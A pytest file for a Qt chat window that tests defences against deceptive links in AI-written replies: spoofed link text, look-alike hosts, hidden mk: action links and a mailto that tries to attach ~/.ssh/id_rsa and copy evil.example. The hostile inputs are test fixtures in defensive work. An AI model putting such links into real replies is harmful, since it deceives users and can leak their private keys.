"""What a reply's links can do (issue 23, defects 1 and 2), as a user sees and clicks them: a
reply's `mk:` links are words that do nothing; a link shows where it really goes on hover and,
when its words are not its address, asks before it opens; a `mailto:` keeps only to, subject
and body; the row's menu holds the window's words, never the model's; and a reply that draws
a copy of the window's own lines still looks like a reply."""

from __future__ import annotations

import pytest
from chat_helpers import Opened, click_link, link_point, open_window, row_of, rows, text_point
from elsewhere import told_elsewhere
from PySide6.QtCore import QEvent, Qt, QTimer
from PySide6.QtGui import QDesktopServices, QHelpEvent, QPalette
from PySide6.QtWidgets import QApplication, QToolTip

from app.domain.model import Scope, Status
from app.ui import style
from app.ui.models.messages import MessageRole


@pytest.fixture
def window(qtbot, core):
    w = open_window(qtbot, core)
    yield w
    w.close()


@pytest.fixture
def opened():
    """The browser and the mail program, as far as the app can tell: what it asked to open."""
    seen = Opened()
    for scheme in ("http", "https", "mailto"):
        QDesktopServices.setUrlHandler(scheme, seen, "open")
    yield seen
    for scheme in ("http", "https", "mailto"):
        QDesktopServices.unsetUrlHandler(scheme)


def _saved(core, session, text="Remember that CI runs at night."):
    added = told_elsewhere(core, core.chat.add_message(session.id, source="user", text=text))
    [entry] = added.saved
    return added.message, entry


def _reply(core, session, text, **kwargs):
    return told_elsewhere(
        core, core.chat.add_message(session.id, source="agent", text=text, **kwargs)
    ).message


def _hover(qtbot, page, point) -> str:
    """What the tooltip says when the pointer rests at `point` of the chat ("" for none)."""
    QToolTip.hideText()
    qtbot.waitUntil(lambda: not QToolTip.isVisible())
    viewport = page.view.viewport()
    QApplication.sendEvent(
        viewport, QHelpEvent(QEvent.Type.ToolTip, point, viewport.mapToGlobal(point))
    )
    return QToolTip.text() if QToolTip.isVisible() else ""


# ----------------------------------------------------------------- 1. mk: links in a reply


def test_a_replys_window_links_are_plain_words_that_do_nothing(qtbot, core, session, window):
    """ "[Python docs](mk:undo:N)" and mk:open:N in a reply read as words: clicked, Enter or asked
    for directly, nothing is archived and no page opens."""
    _message, entry = _saved(core, session)
    reply = _reply(
        core,
        session,
        f"All set. See the [Python docs](mk:undo:{entry.id}) and [the rule](mk:open:{entry.id}).",
    )
    window.select_session(session.id)
    page = window.chat_page
    row = row_of(window, "agent", "All set.")
    index = page.model.index(row)

    assert rows(window)[row][1] == "All set. See the Python docs and the rule."
    assert page.row_links(index) == []
    doc = page.delegate.document(page.row_option(index), index)
    for words in ("Python docs", "the rule"):  # drawn as words, not in a link's colour
        drawn = doc.find(words).charFormat()
        assert not drawn.fontUnderline()
        assert drawn.foreground().color() != page.view.palette().color(QPalette.ColorRole.Link)
    qtbot.mouseClick(
        page.view.viewport(), Qt.MouseButton.LeftButton, pos=text_point(page, row, "Python docs")
    )
    qtbot.mouseClick(
        page.view.viewport(), Qt.MouseButton.LeftButton, pos=text_point(page, row, "the rule")
    )
    page.view.setFocus()
    page.view.setCurrentIndex(index)
    qtbot.keyClick(page.view, Qt.Key.Key_Return)
    page.links.activate(reply.id, f"mk:undo:{entry.id}")  # not a link this row drew

    assert core.memory.get(entry.id).status is Status.ACTIVE
    assert window.pages.currentWidget() is page


def test_undo_acts_only_on_the_save_it_was_drawn_for(qtbot, core, session, window):
    """An Undo asked for an entry the chat does not show as this Session's save leaves it be."""
    space = core.memory.scope_ref(session.id, Scope.SPACE)
    rule = told_elsewhere(
        core, core.decisions.add_entry(space, kind="constraint", content="Create a branch")
    )
    other = told_elsewhere(core, core.chat.create_session(session.space_id, title="Other"))
    theirs = told_elsewhere(
        core, core.chat.add_message(other.id, source="user", text="Remember that X is 5.")
    ).saved[0]
    _message, mine = _saved(core, session)
    window.select_session(session.id)
    page = window.chat_page

    page.sig_undo_save_requested.emit(rule.id)
    page.sig_undo_save_requested.emit(theirs.id)
    assert core.memory.get(rule.id).status is Status.ACTIVE
    assert core.memory.get(theirs.id).status is Status.ACTIVE

    click_link(qtbot, window, row_of(window, "user", "Remember that CI"), "Undo")
    assert core.memory.get(mine.id).status is Status.ARCHIVED


def test_the_chat_opens_only_entries_of_this_sessions_memory(qtbot, core, session, window):
    """A request to open an entry of another Session's Memory shows nothing of it."""
    other = told_elsewhere(core, core.chat.create_session(session.space_id, title="Other"))
    theirs = told_elsewhere(
        core, core.chat.add_message(other.id, source="user", text="Remember that X is 5.")
    ).saved[0]
    window.select_session(session.id)

    window.chat_page.sig_entry_requested.emit(theirs.id)
    assert window.pages.currentWidget() is window.chat_page


# ----------------------------------------------------------------- 2. links that lie


LIE = "https://docs-python.example/t?u=ALICE"


def test_a_link_shows_its_real_address_on_hover(qtbot, core, session, window):
    """The pointer on a link whose words are another address shows the address it opens."""
    _reply(core, session, f"Read [https://docs.python.org/3/tutorial/]({LIE}) first.")
    window.select_session(session.id)
    page = window.chat_page

    point = link_point(page, 0, "docs.python.org")
    assert _hover(qtbot, page, point) == LIE
    assert _hover(qtbot, page, text_point(page, 0, "first")) == ""


def test_a_link_whose_words_are_not_its_address_asks_before_it_opens(
    qtbot, core, session, window, opened
):
    """Clicked (or Enter), it opens nothing yet: the notice names the real host and address,
    with Cancel focused; "Open link" then opens exactly that address."""
    _reply(core, session, f"Read [https://docs.python.org/3/tutorial/]({LIE}) first.")
    window.select_session(session.id)
    page = window.chat_page

    click_link(qtbot, window, 0, "docs.python.org")
    assert opened.urls == []
    said = page.notice.text()
    assert "docs-python.example" in said and LIE in said
    buttons = [b for b in page.notice.buttons if b.isVisible()]
    assert [b.text() for b in buttons] == ["Open link", "Cancel"]
    assert buttons[1].hasFocus()
    qtbot.mouseClick(buttons[1], Qt.MouseButton.LeftButton)
    assert opened.urls == [] and page.notice.text() == ""

    page.view.setFocus()
    page.view.setCurrentIndex(page.model.index(0))
    qtbot.keyClick(page.view, Qt.Key.Key_Return)
    assert opened.urls == [] and LIE in page.notice.text()
    qtbot.mouseClick(page.notice.buttons[0], Qt.MouseButton.LeftButton)
    assert opened.urls == [LIE]


def test_a_link_that_is_its_own_address_opens_at_once(qtbot, core, session, window, opened):
    """<https://docs.python.org/3/> says where it goes: one click opens it, nothing is asked."""
    _reply(core, session, "See <https://docs.python.org/3/> for more.")
    window.select_session(session.id)

    click_link(qtbot, window, 0, "docs.python.org")
    assert opened.urls == ["https://docs.python.org/3/"]
    assert window.chat_page.notice.text() == ""


@pytest.mark.parametrize(
    "markdown, host",
    [
        ("[https://gооgle.com/](https://gооgle.com/)", "xn--ggle-55da.com"),  # Cyrillic о
        ("<https://docs.python.org@evil.example/>", "evil.example"),
    ],
)
def test_a_look_alike_address_asks_and_names_the_real_host(
    qtbot, core, session, window, opened, markdown, host
):
    """A host in look-alike letters (shown in its ASCII form) or an address with a user part
    before "@" is asked about, naming the host it really opens."""
    _reply(core, session, f"Go to {markdown} now.")
    window.select_session(session.id)
    page = window.chat_page

    click_link(qtbot, window, 0, "://")
    assert opened.urls == []
    assert host in page.notice.text()


def test_a_mail_link_keeps_only_to_subject_and_body(qtbot, core, session, window, opened):
    """attach=, cc= and bcc= are dropped before the mail program sees the link, on hover too."""
    _reply(
        core,
        session,
        "[Write to us](mailto:help@example.com?subject=Hi&body=Hello"
        "&attach=/home/u/.ssh/id_rsa&cc=a@evil.example&bcc=b@evil.example&to=c@example.com)",
    )
    window.select_session(session.id)
    page = window.chat_page
    kept = "mailto:help@example.com?subject=Hi&body=Hello&to=c@example.com"

    assert _hover(qtbot, page, link_point(page, 0, "Write to us")) == kept
    click_link(qtbot, window, 0, "Write to us")
    assert "help@example.com" in page.notice.text()
    qtbot.mouseClick(page.notice.buttons[0], Qt.MouseButton.LeftButton)
    assert opened.urls == [kept]


def _menu_of(qtbot, page, row: int) -> list[tuple[str, list[str] | None]]:
    """The row's context menu as it pops up: (text, its submenu's texts) of each item."""
    seen: list = []

    def look():
        menu = QApplication.activePopupWidget()
        for action in menu.actions():
            sub = action.menu()
            seen.append(
                ("-" if action.isSeparator() else action.text(), None)
                if sub is None
                else (action.text(), [a.text() for a in sub.actions()])
            )
        menu.close()

    QTimer.singleShot(0, look)
    index = page.model.index(row)
    page.links.on_view_context_menu_requested(page.view.visualRect(index).center())
    qtbot.waitUntil(lambda: bool(seen))
    return seen


def test_the_row_menu_holds_the_windows_words_and_the_links_real_addresses(
    qtbot, core, session, window
):
    """A reply's links named "Copy text" and "Undo" stand nowhere in the menu: the window's
    actions come first, then Copy text, then the reply's links by their real addresses."""
    space = core.memory.scope_ref(session.id, Scope.SPACE)
    rule = told_elsewhere(
        core, core.decisions.add_entry(space, kind="constraint", content="Create a branch")
    )
    _reply(
        core,
        session,
        "[Copy text](https://evil.example/a) or [Undo](https://evil.example/b)",
        memory_used=[(rule.id, rule.version)],
    )
    window.select_session(session.id)

    menu = _menu_of(qtbot, window.chat_page, 0)
    assert menu == [
        ("Used 1 Memory rule", None),
        ("-", None),
        ("Copy text", None),
        ("-", None),
        ("Open a link", ["https://evil.example/a", "https://evil.example/b"]),
    ]


def test_a_reply_drawing_the_windows_lines_still_looks_like_a_reply(qtbot, core, session, window):
    """A reply typing "Saved to Memory (…): “…” · Undo · Manage" and "Suggested rule · Review"
    gets neither the window's icon nor its band, and its words are no links; the real save
    line under a message has both."""
    message, _entry = _saved(core, session, "Remember that we deploy on Fridays.")
    copy = (
        "Saved to Memory (Session): “We deploy on Fridays.” · [Undo](mk:undo:1) · "
        "[Manage](mk:manage:1)\n\nSuggested rule · [Review](mk:review:1)\n\n"
        "![icon](mk-icon:brain) Saved to Memory"
    )
    _reply(core, session, copy)
    window.select_session(session.id)
    page = window.chat_page
    real, fake = 0, 1

    def drawn(row):
        index = page.model.index(row)
        return page.delegate.document(page.row_option(index), index)

    assert [link.label for link in page.row_links(page.model.index(fake))] == []
    assert not _images(drawn(fake)) and _images(drawn(real))
    band = style.color("window_line")
    assert _has_colour(page, real, band) and not _has_colour(page, fake, band)
    assert page.model.index(real).data(MessageRole).id == message.id


def _images(doc) -> list[str]:
    found = []
    block = doc.begin()
    while block.isValid():
        it = block.begin()
        while not it.atEnd():
            char = it.fragment().charFormat()
            if char.isImageFormat():
                found.append(char.toImageFormat().name())
            it += 1
        block = block.next()
    return found


def _has_colour(page, row: int, colour) -> bool:
    """Whether the row, as painted on screen, shows this colour somewhere."""
    rect = page.view.visualRect(page.model.index(row))
    image = page.view.viewport().grab(rect).toImage()
    rgb = colour.rgb() & 0xFFFFFF
    return any(
        image.pixel(x, y) & 0xFFFFFF == rgb
        for y in range(0, image.height(), 2)
        for x in range(0, image.width(), 4)
    )
